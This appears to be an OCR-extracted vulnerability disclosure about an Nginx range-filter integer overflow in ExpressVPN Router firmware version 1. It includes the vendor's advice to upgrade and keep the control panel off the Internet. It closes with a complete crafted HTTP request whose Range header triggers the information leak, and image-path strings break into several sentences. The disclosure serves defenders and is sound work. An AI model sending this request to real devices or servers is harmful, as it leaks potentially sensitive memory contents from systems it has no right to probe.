ExpressVPN Router's Login Panel runs on Nginx webserver, the version v1 of the router's firmware hosts web login panel on vulnerable web server

ExpressVPN Summary: A publicly known bug in the Nginx server used by the ExpressVPN Router version 1.x firmware was reported. ExpressVPN no longer ships or supports that version and all users are encouraged to upgrade to the latest version of the ExpressVPN Router firmware available on our site, which is not vulnerable to this bug. Additionally, we highly discourage our users from exposing their router control panel to the Internet, as this class of bug would only be exploitable withaccess to the control panel, which is usually restricted to the local network. For help or support upgrading yourrouter please visit:

ExpressVPN Router version 1 is vulnerable to integer overflow vulnerability inNginx range filter module resulting into leak of potentially sensitive information triggered by specially crafted request.


GET / HTTP/1.1

User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:81.0) Gecko/20100101 Firefox/81.0


Accept-Encoding: identity

Range:bytes=-17208,-9223372036854758999

Connection: closeAdditional credits: Abhind A @Abhind5